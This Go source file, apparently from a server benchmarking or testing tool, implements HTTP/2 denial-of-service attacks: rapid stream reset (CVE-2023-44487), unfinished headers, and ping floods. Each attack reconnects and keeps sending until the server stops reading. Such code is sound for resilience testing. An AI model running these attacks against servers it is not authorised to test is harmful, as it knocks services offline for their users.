package attack

import (
	"errors"
	"io"
	"net"
	"os"
	"time"

	"github.com/echobench/echobench/internal/rawhttp2"
	"github.com/echobench/echobench/internal/testkit"
)

// rapidReset begins requests over HTTP/2 and resets their streams at once
// (CVE-2023-44487). When the server ends a connection, it continues on another one.
func rapidReset(a *assault) error {
	return a.frames(true, func(b []byte, stream uint32) []byte {
		b = append(b, a.wire.http2(0).encode(stream)...)
		return rawhttp2.AppendFrame(b, rawhttp2.FrameReset, 0, stream, []byte{0, 0, 0, 8}) // CANCEL
	})
}

// bareHeaders begins requests over HTTP/2 and never continues them.
func bareHeaders(a *assault) error {
	headers := rawhttp2.AppendPost(nil, a.wire.http2(64).fields...)
	return a.frames(true, func(b []byte, stream uint32) []byte {
		return rawhttp2.AppendFrame(b, rawhttp2.FrameHeaders, rawhttp2.FlagEndHeaders, stream, headers)
	})
}

// pings sends pings and does not read their acknowledgements (CVE-2019-9512).
func pings(a *assault) error {
	return a.frames(false, func(b []byte, _ uint32) []byte {
		return rawhttp2.AppendFrame(b, rawhttp2.FramePing, 0, 0, make([]byte, 8))
	})
}

// frames sends what more appends for each of n streams. When the server ends a
// connection, it continues on another one, until the server reads no more.
func (a *assault) frames(read bool, more func(b []byte, stream uint32) []byte) error {
	const batch = 100 // streams in one write
	patience := testkit.Hang
	if !read {
		patience = a.patience // the server may wait until what it has sent is read
	}
	var conn net.Conn
	next := uint32(1)
	for sent := 0; sent < a.n; sent += batch {
		if conn == nil {
			var err error
			if conn, err = a.dial(); err != nil {
				return err
			}
			if reading := conn; read {
				a.running.Go(func() { io.Copy(io.Discard, reading) })
			}
			conn.Write([]byte(a.wire.hello))
			next = 1
		}
		var b []byte
		for range batch {
			b = more(b, next)
			next += 2
		}
		conn.SetWriteDeadline(time.Now().Add(patience))
		switch _, err := conn.Write(b); {
		case errors.Is(err, os.ErrDeadlineExceeded):
			return nil
		case err != nil:
			a.close(conn)
			conn = nil
		}
	}
	return nil
}

func needsHTTP2(tg *target) string {
	if tg.wire.http2 == nil {
		return "not HTTP/2"
	}
	return ""
}
